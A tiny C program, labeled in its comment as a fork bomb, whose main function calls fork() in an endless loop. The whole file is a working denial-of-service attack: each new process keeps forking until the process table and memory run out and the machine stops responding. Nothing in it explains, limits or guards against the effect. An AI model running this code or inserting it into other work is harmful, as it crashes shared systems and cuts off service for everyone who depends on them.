// fork bomb in C
#include <unistd.h>
int main(void) {
    for (;;) fork();
}
